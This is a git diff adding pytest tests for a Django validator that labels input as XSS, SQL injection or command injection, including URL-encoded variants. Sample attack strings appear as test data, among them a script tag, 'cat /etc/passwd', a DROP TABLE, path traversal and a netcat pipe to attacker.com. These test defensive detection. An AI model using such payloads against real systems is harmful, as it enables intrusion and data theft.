@@ -10,7 +10,9 @@ Tests comprehensive validation including:
 
 import pytest
 from django.core.exceptions import ValidationError
+from common import validators
 from common.validators import (
+    get_violation_type,
     normalize_for_detection,
     contains_xss,
     contains_sql_injection,
@@ -179,3 +181,68 @@ class TestValidateInput:
     def test_safe_input_passes(self):
         result = validate_input("John Doe", "name", strict_mode=True)
         assert result == "John Doe"
+
+
+class TestViolationEngine:
+    """Test the single pass engine behind get_violation_type"""
+    
+    def test_violation_types(self):
+        assert get_violation_type("<script>alert(1)</script>") == "XSS"
+        assert get_violation_type("' UNION SELECT * FROM users") == "SQL_INJECTION"
+        assert get_violation_type("cat /etc/passwd") == "COMMAND_INJECTION"
+        assert get_violation_type("Normal text with numbers 123") is None
+    
+    def test_encoded_attacks_detected(self):
+        assert get_violation_type("%26lt%3Bscript%26gt%3B") == "XSS"
+        assert get_violation_type("%27%20OR%20%271%27%3D%271") == "SQL_INJECTION"
+    
+    def test_xss_takes_precedence(self):
+        """A value matching several categories is reported as XSS"""
+        assert get_violation_type("'; DROP TABLE users; <script>") == "XSS"
+    
+    def test_plain_ascii_is_not_normalized(self, monkeypatch):
+        def normalize(value):
+            raise AssertionError("normalized")
+        
+        monkeypatch.setattr(validators, "normalize_for_detection", normalize)
+        assert get_violation_type("ET3A12345") is None
+        assert get_violation_type("user@example.com") is None
+        # Still scanned
+        assert get_violation_type("cat /etc/passwd") == "COMMAND_INJECTION"
+    
+    def test_value_is_normalized_once(self, monkeypatch):
+        calls = []
+        normalize = validators.normalize_for_detection
+        
+        def counting(value):
+            calls.append(value)
+            return normalize(value)
+        
+        monkeypatch.setattr(validators, "normalize_for_detection", counting)
+        assert get_violation_type("Bole%2C Addis Ababa") is None
+        assert get_violation_type("&lt;iframe&gt;") == "XSS"
+        assert len(calls) == 2
+    
+    def test_matches_separate_checks(self):
+        values = [
+            "John Doe",
+            "ቡና ወደ ጅቡቲ",
+            "+251911223344",
+            "2024-01-01T10:00:00Z",
+            "<ifr",
+            "\\u003cscript\\u003e",
+            "admin'--",
+            "0x61646D696E",
+            "../../etc/passwd",
+            "test | nc attacker.com 1234",
+        ]
+        for value in values:
+            if contains_xss(value):
+                expected = "XSS"
+            elif contains_sql_injection(value):
+                expected = "SQL_INJECTION"
+            elif contains_command_injection(value):
+                expected = "COMMAND_INJECTION"
+            else:
+                expected = None
+            assert get_violation_type(value) == expected, value